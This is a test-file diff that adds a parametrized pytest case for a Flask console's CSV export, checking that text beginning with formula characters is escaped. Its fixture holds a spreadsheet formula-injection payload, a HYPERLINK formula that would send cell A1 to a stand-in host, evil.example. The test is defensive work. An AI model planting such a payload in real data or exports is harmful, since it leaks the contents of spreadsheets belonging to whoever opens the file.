@@ -324,6 +324,30 @@ def test_csv_streams_the_filtered_calls_with_a_header(app: Flask, support: Flask
     assert audited[0] == {"filters": {"date_from": "2026-03-01", "outcome": "cancelled"}}
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_escapes_formulas_in_every_text_column(
+    app: Flask, support: FlaskClient, start: str
+) -> None:
+    evil = start + 'HYPERLINK("https://evil.example/?"&A1)'
+    add_calls(
+        app,
+        make_call(
+            from_number=evil[:32],
+            account_number=start + "1+1",
+            outcome_step=start + "SUM(1)",
+            reason_code=start + "cmd",
+            offer_code=start + "2",
+            agent_result=start + "x",
+        ),
+    )
+    rows = list(csv.reader(io.StringIO(support.get("/console/calls.csv").get_data(as_text=True))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + evil[:32] in cells
+    for value in ("1+1", "SUM(1)", "cmd", "2", "x"):
+        assert "'" + start + value in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
 def test_callbacks_wait_oldest_first_and_can_be_marked_done(
     app: Flask, support: FlaskClient
 ) -> None:
